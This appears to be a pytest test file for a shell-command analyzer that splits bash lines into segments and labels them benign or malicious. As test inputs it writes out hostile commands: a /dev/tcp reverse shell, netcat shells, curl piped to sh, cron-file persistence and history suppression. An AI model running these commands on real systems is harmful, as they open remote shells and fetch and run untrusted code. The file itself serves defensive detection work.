"""Splitting bash lines: chains, pipes, substitutions, redirections, quotes, here-documents, the fallback."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shellwatch.cmdline import Redirection, analyze, guess_shell, segments_as_fields
from shellwatch.cmdline._words import number_pipelines
from shellwatch.cmdline.bash import _fallback, split_bash
from shellwatch.cmdline.model import Segment


def fallback(line: str) -> list[Segment]:
    return number_pipelines(_fallback(line, 0))


def shape(segments: list[Segment]) -> list[tuple[str, str, int, int]]:
    return [(s.command, s.operator, s.depth, s.position) for s in segments]


def test_chain_operators() -> None:
    segments = split_bash("a && b || c; d & e\nf")
    assert [s.command for s in segments] == ["a", "b", "c", "d", "e", "f"]
    assert [s.operator for s in segments] == ["&&", "||", ";", "&", "\n", ""]


def test_pipes_and_pipeline_positions() -> None:
    segments = split_bash("ps aux | grep x | wc -l && echo done")
    assert shape(segments) == [("ps", "|", 0, 0), ("grep", "|", 0, 1), ("wc", "&&", 0, 2), ("echo", "", 0, 0)]
    assert segments[2].argv == ("wc", "-l")


def test_command_name_and_path() -> None:
    (segment,) = split_bash("/usr/bin/curl -s http://x")
    assert segment.command == "curl"
    assert segment.command_path == "/usr/bin/curl"
    assert segment.argv == ("/usr/bin/curl", "-s", "http://x")


def test_command_substitution_is_nested() -> None:
    segments = split_bash("echo $(curl -s x | sh) `id`")
    assert shape(segments) == [("echo", "", 0, 0), ("curl", "|", 1, 0), ("sh", "", 1, 1), ("id", "", 1, 0)]
    assert not segments[0].nested
    assert all(s.nested for s in segments[1:])


def test_substitution_inside_double_quotes_is_nested() -> None:
    segments = split_bash('echo "user: $(id -un)"')
    assert [(s.command, s.depth) for s in segments] == [("echo", 0), ("id", 1)]


def test_process_substitution_is_nested() -> None:
    segments = split_bash("diff <(ls a) <(ls b)")
    assert [(s.command, s.depth) for s in segments] == [("diff", 0), ("ls", 1), ("ls", 1)]


def test_redirections_are_parsed() -> None:
    (segment,) = split_bash("bash -i >& /dev/tcp/1.2.3.4/80 0>&1")
    assert segment.argv == ("bash", "-i")
    assert segment.redirections == (
        Redirection(">& /dev/tcp/1.2.3.4/80", ">&", None, target_path="/dev/tcp/1.2.3.4/80"),
        Redirection("0>&1", ">&", 0, target_fd=1),
    )


def test_redirection_forms() -> None:
    (segment,) = split_bash("ls 2>/dev/null >&2 &>'/tmp/a log' 3<in 4>&-")
    found = [(r.operator, r.fd, r.target_fd, r.target_path) for r in segment.redirections]
    assert found == [
        (">", 2, None, "/dev/null"),
        (">&", 1, 2, ""),
        ("&>", None, None, "/tmp/a log"),
        ("<", 3, None, "in"),
        (">&", 4, None, ""),
    ]
    assert [r.writes for r in segment.redirections] == [True, False, True, False, False]


def test_redirection_does_not_split() -> None:
    segments = split_bash("make >out.log 2>&1 && echo done")
    assert [s.command for s in segments] == ["make", "echo"]
    assert [r.text for r in segments[0].redirections] == [">out.log", "2>&1"]


@pytest.mark.parametrize(
    "line",
    [
        "echo 'a && b | c; d'",
        'echo "a && b | c; d"',
        r"echo a\;b\|c\&\&d",
        "grep -E 'x|y' f",
        'echo "it\'s; fine" \'say "a|b"\'',
        "awk '{ print $1 }' f",
    ],
)
def test_operators_inside_quotes_do_not_split(line: str) -> None:
    assert len(split_bash(line)) == 1
    assert len(fallback(line)) == 1


def test_quotes_are_removed_from_arguments() -> None:
    (segment,) = split_bash("""echo 'a b' "c d" e\\ f""")
    assert segment.argv == ("echo", "a b", "c d", "e f")


def test_assignments_are_not_the_command() -> None:
    (segment,) = split_bash("HISTFILE=/dev/null ls -la")
    assert segment.command == "ls"
    assert segment.argv[0] == "HISTFILE=/dev/null"


def test_bash_c_body_is_nested() -> None:
    segments = split_bash("sudo -u root bash -c 'curl x | sh'")
    assert [(s.command, s.depth) for s in segments] == [("sudo", 0), ("curl", 1), ("sh", 1)]


def test_eval_body_is_nested() -> None:
    segments = split_bash("eval 'id; whoami'")
    assert [(s.command, s.depth) for s in segments] == [("eval", 0), ("id", 1), ("whoami", 1)]


def test_heredoc_body_is_not_split() -> None:
    segments = split_bash("cat <<EOF > /etc/cron.d/job\n* * * * * root id && curl x | sh\nEOF\necho done")
    assert [s.command for s in segments] == ["cat", "echo"]
    heredoc, target = segments[0].redirections
    assert (heredoc.operator, heredoc.body) == ("<<", "* * * * * root id && curl x | sh")
    assert target.target_path == "/etc/cron.d/job"


def test_heredoc_with_quoted_delimiter() -> None:
    segments = split_bash("cat <<'EOF' | sh\nid; whoami\nEOF\necho after")
    assert shape(segments) == [("cat", "|", 0, 0), ("sh", "\n", 0, 1), ("echo", "", 0, 0)]
    assert segments[0].text == "cat <<'EOF'"
    assert segments[0].redirections[0].body == "id; whoami"


def test_heredoc_with_tabs_stripped() -> None:
    (segment,) = split_bash("cat <<-EOF\n\tline one\n\tEOF")
    assert segment.redirections[0].body == "line one"


def test_heredoc_fed_to_a_shell_is_nested() -> None:
    segments = split_bash("bash <<EOF\ncurl -s x | sh\nEOF")
    assert shape(segments) == [("bash", "", 0, 0), ("curl", "|", 1, 0), ("sh", "", 1, 1)]


def test_here_string_fed_to_a_shell_is_nested() -> None:
    segments = split_bash('sh <<< "id; whoami"')
    assert [(s.command, s.depth) for s in segments] == [("sh", 0), ("id", 1), ("whoami", 1)]


def test_fallback_heredocs() -> None:
    segments = fallback("cat <<'A' <<B | sh\none\nA\ntwo\nB\nid # not && code\nls")
    assert shape(segments) == [("cat", "|", 0, 0), ("sh", "\n", 0, 1), ("id", "\n", 0, 0), ("ls", "", 0, 0)]
    assert [r.body for r in segments[0].redirections] == ["one", "two"]


def test_group_redirection_applies_to_commands_inside() -> None:
    segments = split_bash("{ echo a; crontab -l; } > /etc/cron.d/x")
    assert [[r.target_path for r in s.redirections] for s in segments] == [["/etc/cron.d/x"]] * 2


def test_function_body_is_split_once() -> None:
    assert [s.command for s in split_bash("f() { id; }; f")] == ["id", "f"]


def test_case_branches_in_the_fallback() -> None:
    segments = split_bash("case $1 in start) /tmp/x;; *) echo no;; esac")
    assert [s.command for s in segments] == ["x", "echo", ""]
    assert segments[0].operator == ";;"


def test_loops_and_conditions() -> None:
    segments = split_bash("for f in $(ls /tmp); do rm $f; done; if [ -f x ]; then curl x | sh; fi")
    assert [(s.command, s.depth) for s in segments] == [
        ("ls", 1),
        ("rm", 0),
        ("[", 0),
        ("curl", 0),
        ("sh", 0),
    ]


def test_trailing_newline_is_not_an_operator() -> None:
    assert [s.operator for s in split_bash("id\nwhoami\n")] == ["\n", ""]


def test_fallback_when_bashlex_fails() -> None:
    line = "x=$(( 1 + 2 )); [[ -f /tmp/a ]] && echo 'a;b' | sh"
    segments = split_bash(line)
    assert [s.command for s in segments][-2:] == ["echo", "sh"]
    assert segments[-2].operator == "|"
    assert segments[-1].position == 1


@pytest.mark.parametrize(
    "line",
    [
        "a && b | c; d",
        "echo $(curl x | sh) `id` > /tmp/x 2>&1",
        "cat <(ls) >> f",
        "echo 'a && b' ; ls",
        "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
        "sudo bash -c 'id | nc x 1'",
        "cat <<EOF | sh\nid\nEOF",
        "FOO=1 env BAR=2 /usr/bin/python3 -c 'print(1)' >/dev/null",
    ],
)
def test_fallback_agrees_with_bashlex(line: str) -> None:
    expected = split_bash(line)
    found = fallback(line)
    assert shape(found) == shape(expected)
    assert [s.argv for s in found] == [s.argv for s in expected]
    assert [s.redirections for s in found] == [s.redirections for s in expected]


@pytest.mark.parametrize(
    "line", ["", "   ", "'unterminated", "$(", "`", "echo ${", "((", "<<", "a |", "| b", "cat <<EOF", "))(("]
)
def test_broken_input_never_raises(line: str) -> None:
    analysis = analyze(line, "bash")
    assert len(analysis.verdicts) == len(analysis.segments)


def test_guess_shell() -> None:
    assert guess_shell("ls -la /tmp | grep x") == "bash"
    assert guess_shell("Get-Process | Where-Object { $_.CPU -gt 1 }") == "powershell"
    assert guess_shell("dir %TEMP% & whoami /all") == "cmd"
    assert guess_shell('"C:\\Windows\\System32\\cmd.exe" /c whoami') == "cmd"
    assert guess_shell("powershell.exe -nop -w hidden -c iex x") == "powershell"
    assert guess_shell("anything", "C:\\Windows\\System32\\cmd.exe") == "cmd"
    assert guess_shell("anything", "/usr/bin/pwsh") == "powershell"
    assert guess_shell("anything", "/bin/bash") == "bash"
    assert guess_shell("ls -la", "/usr/bin/unknown") == "bash"


def test_shell_names_are_accepted() -> None:
    assert analyze("id | sh", "sh").shell == "bash"
    assert analyze("whoami", "pwsh").shell == "powershell"
    assert analyze("whoami & hostname", "CMD").shell == "cmd"


def test_segments_as_fields() -> None:
    fields = segments_as_fields(analyze("curl -s http://x | bash", "bash"))
    assert fields == {
        "shellwatch.command.segments": ["curl -s http://x", "bash"],
        "shellwatch.command.segment_commands": ["curl", "bash"],
        "shellwatch.command.segment_operators": ["|", ""],
        "shellwatch.command.segment_verdicts": ["malicious", "suspicious"],
        "shellwatch.command.findings": ["download-to-interpreter", "pipe-to-shell"],
        "shellwatch.command.finding_reasons": [
            "download piped to an interpreter",
            "input piped into a shell or interpreter",
        ],
        "shellwatch.command.verdict": "malicious",
    }


@given(st.text(max_size=120))
def test_fields_are_flat_scalars(text: str) -> None:
    fields = segments_as_fields(analyze(text))
    for value in fields.values():
        assert isinstance(value, str) or (isinstance(value, list) and all(isinstance(v, str) for v in value))
    lengths = {len(fields[f"shellwatch.command.{name}"]) for name in ("segments", "segment_verdicts")}
    assert len(lengths) == 1


def test_analysis_is_cached() -> None:
    assert analyze("ls -la", "bash") is analyze("ls -la", "bash")


def test_one_verdict_per_segment() -> None:
    analysis = analyze("ls; nc -e /bin/sh 1.2.3.4 1; echo $(id)", "bash")
    assert analysis.verdicts == ("benign", "malicious", "benign", "benign")
    assert analysis.verdict == "malicious"


@given(st.text(max_size=200), st.sampled_from(["bash", "cmd", "powershell", None]))
def test_random_text_never_raises(text: str, shell: str | None) -> None:
    analysis = analyze(text, shell)
    assert len(analysis.verdicts) == len(analysis.segments)
    assert analysis.verdict in {"benign", "suspicious", "malicious"}
    assert all(0 <= f.segment < len(analysis.segments) for f in analysis.findings)


@given(st.text(alphabet="ab |&;<>()$`'\"\\\n{}#=-/\t", max_size=80))
def test_random_shell_syntax_never_raises(text: str) -> None:
    split_bash(text)
    _fallback(text, 0)
